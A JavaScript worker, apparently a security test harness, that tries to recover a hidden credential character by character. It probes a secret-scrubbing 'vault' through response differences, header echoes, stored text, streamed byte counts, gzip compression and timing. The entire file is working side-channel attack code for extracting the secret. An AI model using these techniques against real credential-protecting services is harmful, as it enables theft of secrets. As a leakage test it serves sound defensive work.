// A function that tries to learn its own credential, letter by letter, from the answers to its
// calls.
//
// A request's JSON body is an order: { way, path, base, known, alphabet, length }. `path` is a path
// of the capability `payments` whose upstream returns the text that it receives. For `pieces` and
// `gzip` the upstream returns the text piece by piece, in the content encoding of the request; for
// `stored` it returns the text to a later GET, for which the function also uses a plain `fetch` of
// `base` and `path`. `known` is the known beginning of the credential. The answer is { recovered,
// calls, seen }; `seen` holds the observation of each guess in the last step. Each step sends
// `known` with one more letter, for every letter, and compares the observations: the letter whose
// observation differs from all others is taken for the next letter. A step in which no letter, or
// more than one, stands out ends the attempt. On a busy machine `time` also takes letters that
// stand out by chance, so a test counts only right letters.

// More than the vault holds back, so that the amount held back shows in the bytes that arrive
// first.
const FILLER = ".".repeat(16384);
// If nothing arrives for this long, the answer is waiting for the rest of the text that it returns.
const QUIET_MS = 20;
// Rounds of a timed guess. Only the faster half counts, which excludes the delays of a busy
// machine.
const TIMED_ROUNDS = 6;
// Repetitions of a guess in the body of a timed call: they add up the scrubber's time for one
// occurrence.
const TIMED_REPEATS = 1024;

let calls;

const encode = (text) => new TextEncoder().encode(text);

function call(env, path, init) {
  calls++;
  return env.payments.fetch(path, { method: "POST", ...init });
}

// The observation of each guess, from an answer to a text whose last lines contain one guess each.
function lastLines(text, guesses) {
  const lines = text.split("\n").slice(-guesses.length);
  return guesses.map((guess, i) => without(lines[i] ?? "", guess));
}

// The rest of an answer without the guess: equal for all guesses that the vault does not replace.
const without = (text, guess) => text.replaceAll(guess, "GUESS");

const quiet = () => new Promise((go) => setTimeout(go, QUIET_MS));

const median = (numbers) => numbers.sort((a, b) => a - b)[numbers.length >> 1];

// A gzip member of its own; a decoder has read all of it at its end.
async function gzip(text) {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("gzip"));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

// The number of bytes of the answer that arrive while its text ends in the guess, and the number
// that arrive later.
async function sizes({ env, path }, guesses, headers, pack) {
  const seen = [];
  for (const guess of guesses) {
    const [first, rest] = [await pack(FILLER + guess), await pack(FILLER)];
    let sendRest;
    const body = new ReadableStream({
      async start(controller) {
        controller.enqueue(first);
        await new Promise((go) => sendRest = go);
        controller.enqueue(rest);
        controller.close();
      },
    });
    const reader = (await call(env, path, { headers, body, duplex: "half" })).body.getReader();
    const counts = [0, 0];
    let next = reader.read();
    for (let piece; (piece = await Promise.race([next, quiet()])) && !piece.done; next = reader.read()) {
      counts[0] += piece.value.length;
    }
    sendRest();
    for (let piece; !(piece = await next).done; next = reader.read()) {
      counts[1] += piece.value.length;
    }
    seen.push(counts.join());
  }
  return seen;
}

// For each way, a function that returns the observation of each guess, in order.
const ways = {
  async body({ env, path }, guesses) {
    const seen = [];
    for (const guess of guesses) {
      const answer = await call(env, path, { body: guess });
      seen.push(`${answer.status} ${without(await answer.text(), guess)}`);
    }
    return seen;
  },
  async many({ env, path }, guesses) {
    const answer = await call(env, path, { body: guesses.join("\n") });
    return lastLines(await answer.text(), guesses);
  },
  async stored({ env, path, base }, guesses) {
    await (await call(env, path, { body: guesses.join("\n") })).text();
    const slot = await call(env, path, { method: "GET" });
    const ofSlot = lastLines(await slot.text(), guesses);
    const plain = lastLines(await (await fetch(base + path)).text(), guesses);
    return guesses.map((_, i) => `${ofSlot[i]} ${plain[i]}`);
  },
  async header({ env, path }, guesses) {
    const seen = [];
    for (const guess of guesses) {
      const headers = { origin: guess, "x-request-id": guess };
      const answer = await call(env, path, { headers });
      // The second of the answer's Date header does not depend on the guess.
      const fields = JSON.stringify([...answer.headers].filter(([name]) => name !== "date"));
      seen.push(without(`${answer.status} ${fields} ${await answer.text()}`, guess));
    }
    return seen;
  },
  pieces: (target, guesses) => sizes(target, guesses, {}, encode),
  gzip: (target, guesses) => sizes(target, guesses, { "content-encoding": "gzip" }, gzip),
  async time({ env, path }, guesses) {
    const rounds = guesses.map(() => []);
    // The guesses take turns, so that a machine that grows busy slows all of them equally.
    for (let round = 0; round < TIMED_ROUNDS; round++) {
      for (const [i, guess] of guesses.entries()) {
        const body = `${guess} `.repeat(TIMED_REPEATS);
        // The clock advances between two turns.
        await new Promise((go) => setTimeout(go, 0));
        const began = performance.now();
        await (await call(env, path, { body })).arrayBuffer();
        rounds[i].push(performance.now() - began);
      }
    }
    const times = rounds.map((of) => {
      const faster = of.sort((a, b) => a - b).slice(0, TIMED_ROUNDS / 2);
      return faster.reduce((sum, time) => sum + time, 0);
    });
    // A guess stands out if it is farther from the median than twice the distance of all but the
    // farthest.
    const middle = median([...times]);
    const distances = times.map((time) => Math.abs(time - middle));
    const usual = distances.toSorted((a, b) => a - b).at(-2);
    return distances.map((distance) => (distance > 2 * usual ? "slow" : "usual"));
  },
};

// The guess whose observation differs from the others', which are all equal.
function outlier(guesses, seen) {
  const alone = guesses.filter((_, i) => seen.indexOf(seen[i]) === seen.lastIndexOf(seen[i]));
  return alone.length === 1 && new Set(seen).size === 2 ? alone[0] : undefined;
}

export default {
  async fetch(request, env) {
    const { way, path, base, known, alphabet, length } = await request.json();
    const target = { env, path, base };
    calls = 0;
    let recovered = known;
    let seen;
    while (recovered.length < length) {
      const guesses = [...alphabet].map((letter) => recovered + letter);
      seen = await ways[way](target, guesses);
      const next = outlier(guesses, seen);
      if (next === undefined) break;
      recovered = next;
    }
    return Response.json({ recovered, calls, seen });
  },
};
